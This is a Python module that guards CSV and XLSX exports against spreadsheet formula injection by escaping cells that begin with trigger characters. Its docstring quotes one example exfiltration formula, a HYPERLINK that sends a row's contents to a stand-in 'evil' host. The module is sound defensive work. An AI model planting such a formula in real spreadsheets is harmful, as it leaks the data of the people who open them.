"""Spreadsheet exports made safe in one place: formula injection and the writers every export uses.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a line feed is run
as a formula by Excel and LibreOffice (``=HYPERLINK("http://evil/?"&A1,"…")`` sends the row away). Such
text gets a leading apostrophe, so it is shown, never run. Only text is escaped: numbers, dates and
empty cells stay what they are (a negative number is a number, not a formula). openpyxl writes any
string starting with ``=`` as a formula, so the XLSX writer also forces escaped cells to be strings.
"""

import csv
import datetime as dt
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
_KEPT_TYPES = (bool, int, float, Decimal, dt.date, dt.datetime, dt.time, dt.timedelta)


def safe_cell(value):
    """``value`` as a spreadsheet may hold it without running anything: numbers, dates and None
    unchanged; anything else as text, with an apostrophe before a formula trigger."""
    if value is None or isinstance(value, _KEPT_TYPES):
        return value
    text = str(value)  # lazy translations, model instances
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


def safe_dataset(dataset):
    """A tablib Dataset (django-import-export's export) with every cell made safe, headers too; an
    empty cell is "" (django-import-export's own escaping would write None as "None")."""
    import tablib

    safe = tablib.Dataset(headers=safe_row(dataset.headers) if dataset.headers else None, title=dataset.title)
    for row in dataset:
        safe.append(["" if value is None else value for value in safe_row(row)])
    return safe


def csv_text(rows: Iterable[Sequence], *, bom: bool = True) -> str:
    """Rows as CSV text, escaped; with a BOM so that Excel opens the Chinese text as UTF-8."""
    out = io.StringIO()
    if bom:
        out.write("\ufeff")
    writer = csv.writer(out)
    writer.writerows(["" if value is None else value for value in safe_row(row)] for row in rows)
    return out.getvalue()


def xlsx_append(sheet, row: Iterable) -> None:
    """Append an escaped row to an openpyxl worksheet; a text cell is always stored as a string."""
    sheet.append(safe_row(row))
    for cell in sheet[sheet.max_row]:
        if cell.data_type == "f":  # cannot happen after safe_row; kept so that no path can write one
            cell.data_type = "s"


def xlsx_bytes(sheets: Iterable[tuple[str, Iterable[Sequence]]]) -> bytes:
    """A workbook with one sheet per (title, rows), every row escaped."""
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets:
        sheet = workbook.create_sheet(str(title)[:31])
        for row in rows:
            xlsx_append(sheet, row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
